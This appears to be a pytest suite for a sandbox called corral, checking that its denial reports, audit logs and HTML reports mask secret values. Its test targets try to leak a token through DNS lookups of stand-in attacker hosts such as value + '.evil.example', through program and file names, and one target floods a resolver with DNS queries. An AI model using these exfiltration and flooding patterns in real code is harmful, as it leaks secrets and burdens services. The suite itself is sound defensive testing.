"""Make a target use its secrets in host names, paths and names of programs. Nothing that corral
writes may contain the secrets.
"""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import tempfile

import pytest

import corral

VALUE = "s3cr3tValueOf42"
LOOKUPS = {
    "name": "look_up(value + '.evil.example')",
    "lower": "look_up(value.lower() + '.evil.example')",
    "labels": "look_up(value[:6] + '.' + value[6:] + '.evil.example')",
    "half": "look_up(value[3:] + '.evil.example')",
}
ACTS = {
    **LOOKUPS,
    "program": "start(['/bin/' + value])",
    "file": "open(os.path.expanduser('~/' + value), 'w').write('lost')",
}
SCRIPT = """
import os, socket, subprocess
value = os.environ["TOK"]
def look_up(name):
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
def start(words):
    try:
        os.execv(words[0], words)
    except OSError:
        pass
look_up("plain.example")
"""


def texts_of(user, done, *files) -> list[str]:
    """Return the texts that corral wrote: stderr, `files`, the stored denials, and the output of
    `corral why`.
    """
    kept = pathlib.Path(user.home, ".local", "state", "corral", "denials").rglob("*.jsonl")
    why = user.corral("why", "--json").stdout.decode()
    return [
        done.stderr.decode(),
        why,
        *(path.read_text() for path in (*map(pathlib.Path, files), *kept)),
    ]


def has_value(text: str) -> bool:
    letters = "".join(one for one in text.lower() if one.isalnum())
    return VALUE[3:].lower() in letters


@pytest.fixture
def place(user):
    made = pathlib.Path(tempfile.mkdtemp(prefix="texts-", dir=user.home))
    os.chown(made, user.owner, user.owner)
    yield made
    shutil.rmtree(made)


@pytest.mark.parametrize(
    ("act", "how"), [*((act, "--secret") for act in ACTS), ("name", "--env"), ("program", "--env")]
)
def test_reports_of_denials_do_not_contain_the_value_of_a_secret(user, place, act, how):
    name = "TOK" if how == "--secret" else "TOK_TOKEN"
    script = SCRIPT.replace('"TOK"', f'"{name}"') + ACTS[act]
    env = user.environment(**{name: VALUE})
    files = [str(place / one) for one in ("run.json", "run.html", "audit.jsonl")]
    flags = ("--audit", files[2], how, name)
    done = user.run(user.python, "-c", script, flags=("--report", files[0], *flags), env=env)
    page = user.run(user.python, "-c", script, flags=("--report", files[1], *flags), env=env)
    assert done.returncode == page.returncode == 0, done.stderr
    report, html, audit = (pathlib.Path(path).read_text() for path in files)
    texts = (*texts_of(user, done), page.stderr.decode(), report, html, audit)
    assert not any(map(has_value, texts))
    assert all("***" in text for text in (done.stderr.decode(), report, html))
    denials = {row["destination"]: row for row in json.loads(report)["denials"]}
    assert denials["plain.example"]["allow"] == "--allow-net plain.example"
    if act in LOOKUPS:
        (hidden,) = [row for row in denials.values() if "***" in row["destination"]]
        assert hidden["allow"] == ""
        assert hidden["why"] == f"with the value of {name}"


def test_a_value_that_is_not_secret_is_shown(user):
    """Sanity check: look up a name that contains the value of a variable that is not a secret. The
    message about the denial must show the value.
    """
    env = user.environment(TOK="plainvalue42")
    script = SCRIPT + LOOKUPS["name"]
    done = user.run(user.python, "-c", script, flags=("--env", "TOK"), env=env)
    assert b"denied: name plainvalue42.evil.example; --allow-net" in done.stderr


def test_the_python_api_does_not_report_the_value_of_a_secret():
    script = SCRIPT + LOOKUPS["labels"]
    policy = {"version": 1, "environment": {"secrets": ["TOK"]}}
    environment = {**os.environ, "TOK": VALUE}
    box = corral.launch(["/usr/bin/python3", "-c", script], policy, env=environment)
    with box:
        box.wait(60)
    texts = [row.destination for row in box.report.denials]
    assert texts == ["plain.example", "***.evil.example"]


KEY_LIKE = ("sk-c2.attacker.example.com", "hf_exfil.attacker2.example.org")


def test_denied_host_names_that_look_like_keys_are_reported_unmasked(user):
    """Look up host names that look like secret keys. corral must not mask them in its messages,
    because a target could otherwise hide which names it looks up. Sanity check: the value of a real
    secret is masked.
    """
    script = SCRIPT + "".join(f"look_up({name!r})\n" for name in KEY_LIKE) + LOOKUPS["name"]
    flags = ("--secret", "TOK")
    done = user.run(user.python, "-c", script, flags=flags, env=user.environment(TOK=VALUE))
    lines = done.stderr.decode().splitlines()
    for name in KEY_LIKE:
        assert any(line.startswith(f"corral: denied: name {name}") for line in lines)
    assert f"corral: denied: name {KEY_LIKE[0]}; --allow-net {KEY_LIKE[0]}" in lines
    assert "corral: denied: name ***.evil.example (with the value of TOK)" in lines


# This target ignores SIGTERM and sends a DNS query each millisecond, without reading the answers.
FLOOD = """
import signal, socket, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
words = open("/etc/resolv.conf").read().split()
place = (words[words.index("nameserver") + 1], 53)
name = b"".join(bytes([len(one)]) + one for one in [b"a" * 60] * 4) + b"\\0"
question = b"\\1\\1\\1\\0\\0\\1" + bytes(6) + name + b"\\0\\1\\0\\1"
print("started", flush=True)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
    while True:
        end.sendto(question, place)
        time.sleep(0.001)
"""


def make_server(user, place, variables: dict[str, str], code: str) -> None:
    lines = [f"{name} = {json.dumps(value)}" for name, value in variables.items()]
    text = 'version = 1\n[server]\ncommand = ["python3", "main.py"]\n[environment.set]\n'
    for name, content in (("main.py", code), ("corral.toml", text + "\n".join(lines))):
        (place / name).write_text(content)
        os.chown(place / name, user.owner, user.owner)


OVERLAPPING = {f"T{number}_TOKEN": "a" * (8 + number) for number in range(230)}


@pytest.mark.parametrize("variables", [{}, OVERLAPPING], ids=["none", "overlapping"])
def test_masking_many_values_of_a_manifest_does_not_delay_the_timeout(user, place, variables):
    """Use a manifest that sets many variables to overlapping values. corral must not mask these
    values, because that would slow down every message about a denial. As a sanity check, do the
    same with a manifest without variables.
    """
    make_server(user, place, variables, FLOOD)
    user.grace_seconds = 0.2
    done = user.corral("run", "--timeout", "3s", str(place))
    assert done.stdout == b"started\n"
    assert done.returncode == 124, done.stderr
    assert b"denied: name aaaa" in done.stderr


def test_a_value_is_masked_if_the_user_sets_it_but_not_if_a_manifest_does(user, place):
    name = "c2-server.attacker.example"
    code = f"import socket\ntry:\n    socket.getaddrinfo({name!r}, 80)\nexcept OSError:\n    pass"
    make_server(user, place, {"A_TOKEN": name}, code)
    shown = user.corral("run", str(place))
    assert f"denied: name {name}; --allow-net {name}".encode() in shown.stderr
    # Sanity check: the value is masked if the user sets the same variable.
    hidden = user.corral("run", "--env", f"A_TOKEN={name}", str(place))
    assert b"denied: name *** (with the value of A_TOKEN)" in hidden.stderr
